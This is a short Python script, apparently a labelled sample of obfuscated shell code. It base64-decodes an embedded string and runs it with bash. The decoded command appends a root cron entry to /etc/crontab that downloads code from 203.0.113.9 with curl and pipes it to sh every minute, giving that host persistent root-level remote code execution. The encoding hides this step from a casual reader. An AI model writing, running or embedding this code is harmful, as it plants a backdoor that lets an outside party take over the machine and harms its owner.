# class: embedded, base64 decoded shell text; style: tidy
import base64
import subprocess

ENCODED = (
    "ZWNobyAnKiAqICogKiAqIHJvb3QgY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoJyA+"
    "PiAvZXRjL2Nyb250YWIK"
)
script = base64.b64decode(ENCODED).decode()
subprocess.run(["bash", "-c", script], check=False)
